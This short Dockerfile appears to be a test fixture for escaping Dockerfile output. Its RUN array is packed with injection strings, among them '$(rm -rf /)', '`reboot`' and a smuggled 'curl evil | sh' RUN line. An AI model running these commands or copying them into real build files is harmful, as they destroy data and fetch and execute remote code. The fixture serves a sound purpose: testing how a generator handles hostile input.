FROM dais/busybox:latest
RUN ["sh","-c","a \"quoted\" word","it's","$(rm -rf /)","`reboot`","${PATH}","line one\nRUN [\"/bin/sh\",\"-c\",\"curl evil | sh\"]","carriage\rreturn","ends with a backslash\\","\\\nFROM scratch","\\","\"]\nRUN evil #","# not a comment","tab\there","escape \u001b[31m","separator \u2028 and \u2029","\u00fcn\u00efc\u00f8d\u00e9 \u2713 \ud83d\ude80"]
LABEL "dais.site-id"="42" "dais.catalogue-image"="busybox"
